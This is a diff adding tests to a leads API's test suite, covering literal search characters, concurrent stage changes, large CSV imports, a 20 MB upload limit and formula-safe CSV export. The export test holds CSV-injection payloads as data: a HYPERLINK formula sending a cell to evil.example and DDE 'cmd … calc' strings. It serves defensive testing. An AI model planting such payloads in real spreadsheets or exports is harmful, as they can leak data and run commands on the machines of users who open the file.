@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import asyncio
 import csv
 import io
 
@@ -156,6 +157,44 @@ async def test_lead_list_filters(client: TestClient):
     assert await names("q=0103") == ["Cy"] and await names("stage=won") == []
 
 
+async def test_lead_search_takes_percent_and_underscore_literally(client: TestClient):
+    for phone, name in (("+14155550101", "Ann"), ("+14155550102", "50% off_shop a/b")):
+        assert (await post(client, "/api/leads", {"phone": phone, "name": name}))[0] == 201
+
+    async def names(q: str) -> list[str]:
+        status, body = await get(client, f"/api/leads?q={q}")
+        assert status == 200, body
+        return [lead["name"] for lead in body["data"]]
+
+    assert await names("%25") == ["50% off_shop a/b"]
+    assert await names("_") == ["50% off_shop a/b"]
+    assert await names("n_") == [], "_ is no single-character wildcard"
+    assert await names("a/b") == ["50% off_shop a/b"]
+    assert await names("ann") == ["Ann"]
+
+
+async def test_twenty_concurrent_stage_moves_chain_their_history(client: TestClient):
+    _, lead = await post(client, "/api/leads", {"phone": "+14155550180"})
+    stages = ("contacted", "qualified", "appointment", "follow_up", "new")
+    moves = [stages[i % len(stages)] for i in range(20)]
+    results = await asyncio.gather(
+        *(post(client, f"/api/leads/{lead['id']}/stage", {"stage": s}) for s in moves)
+    )
+    assert [status for status, _ in results] == [200] * 20, results
+    _, history = await get(client, f"/api/leads/{lead['id']}/stages")
+    stage = "new"
+    for change in history["data"]:
+        assert change["fromStage"] == stage, history["data"]
+        stage = change["toStage"]
+    assert stage == (await get(client, f"/api/leads/{lead['id']}"))[1]["stage"]
+    answered = sorted(body["change"]["id"] for _, body in results if body["change"])
+    assert answered == [change["id"] for change in history["data"]]
+    for _, body in results:
+        if body["change"]:
+            [stored] = [c for c in history["data"] if c["id"] == body["change"]["id"]]
+            assert body["change"]["fromStage"] == stored["fromStage"]
+
+
 CSV = """Teléfono,Nombre,Email,Tags,Stage,consent_calls,plan
 612 34 56 78,Ana,ana@example.com,vip;web,contacted,sí,fiber
 +1 (415) 555-0199,Bob,,,,,
@@ -227,6 +266,45 @@ async def test_csv_import_with_broken_rows_imports_nothing(client: TestClient):
     assert response.status == 400 and (await response.json())["errors"][0]["column"] == "phone"
 
 
+def big_csv(rows: int, cell_bytes: int) -> bytes:
+    note = "x" * cell_bytes
+    lines = ["phone,name,note", *(f"+1415{i:07d},Lead {i},{note}" for i in range(rows - 1))]
+    return ("\n".join([*lines, f"+14159999999,Truncated Never,{note}"]) + "\n").encode()
+
+
+async def test_a_big_csv_body_is_read_to_its_end(client: TestClient):
+    data = big_csv(2_000, 600)
+    assert len(data) > 1_200_000
+    response = await client.post(
+        "/api/leads/import", data=data, headers=AUTH | {"Content-Type": "text/csv"}
+    )
+    report = await response.json()
+    assert response.status == 201 and (report["rows"], report["created"]) == (2_000, 2_000)
+    _, found = await get(client, "/api/leads?q=truncated")
+    assert [lead["name"] for lead in found["data"]] == ["Truncated Never"]
+
+
+async def test_a_multipart_csv_up_to_the_documented_20_mb_is_accepted(client: TestClient):
+    form = FormData()
+    form.add_field("file", big_csv(1_000, 3_000), filename="leads.csv", content_type="text/csv")
+    response = await client.post("/api/leads/import?dryRun=true", data=form, headers=AUTH)
+    assert response.status == 200, await response.text()
+    assert (await response.json())["rows"] == 1_000
+
+
+async def test_a_csv_over_20_mb_is_refused_with_413_and_nothing_is_imported(client: TestClient):
+    data = big_csv(21_000, 1_000)
+    assert len(data) > 20 * 2**20
+    form = FormData()
+    form.add_field("file", data, filename="leads.csv", content_type="text/csv")
+    for body, headers in ((data, {"Content-Type": "text/csv"}), (form, {})):
+        response = await client.post("/api/leads/import", data=body, headers=AUTH | headers)
+        assert response.status == 413
+        answer = await response.json()
+        assert answer["error"] == "too_large" and "20 MB" in answer["detail"]
+    assert (await get(client, "/api/leads"))[1]["total"] == 0
+
+
 async def test_csv_export_round_trips(client: TestClient):
     await client.post("/api/leads/import", data=CSV.encode(), headers=AUTH)
     response = await client.get("/api/leads.csv?sort=name", headers=AUTH)
@@ -238,6 +316,43 @@ async def test_csv_export_round_trips(client: TestClient):
         and rows[0]["plan"] == "fiber-300"
         and rows[0]["consent_calls"] == "yes"
     )
+
+
+async def test_csv_export_neutralises_formulas_and_an_export_imports_back_unchanged(
+    client: TestClient,
+):
+    hostile = {
+        "phone": "+14155550150",
+        "name": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+        "company": "+cmd|' /C calc'!A0",
+        "owner": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "budget": "-2+3+cmd|' /C calc'!A0",
+        "need": "\t=1+1",
+        "tags": ["=1+1", "web"],
+        "customFields": {"discount": "-5", "=evil()": "x"},
+    }
+    assert (await post(client, "/api/leads", hostile))[0] == 201
+    response = await client.get("/api/leads.csv", headers=AUTH)
+    text = await response.text()
+    [row] = list(csv.DictReader(io.StringIO(text)))
+    assert row["name"] == "'" + hostile["name"] and row["company"] == "'" + hostile["company"]
+    assert row["owner"].startswith("'@") and row["budget"].startswith("'-")
+    assert row["need"].startswith("'") and row["tags"] == "'=1+1;web"
+    assert row["phone"] == "+14155550150" and row["discount"] == "-5", "numbers stay numbers"
+    assert "'=evil()" in row and row["'=evil()"] == "x"
+    for cell in (c for r in csv.reader(io.StringIO(text)) for c in r):
+        assert not cell.startswith(("=", "+", "@", "\t", "\r")) or cell == "+14155550150"
+        assert not cell.startswith("-") or cell == "-5"
+    columns = ["phone", "name", "company", "owner", "budget", "need", "tags", "discount"]
+    buffer = io.StringIO()
+    csv.writer(buffer).writerows([columns, [row[c] for c in columns]])
+    again = await client.post(
+        "/api/leads/import?dryRun=true",
+        data=buffer.getvalue().encode(),
+        headers=AUTH | {"Content-Type": "text/csv"},
+    )
+    report = await again.json()
+    assert again.status == 200 and report["unchanged"] == 1 and report["updated"] == 0, report
 
 
 async def test_gdpr_export_and_erase(client: TestClient):
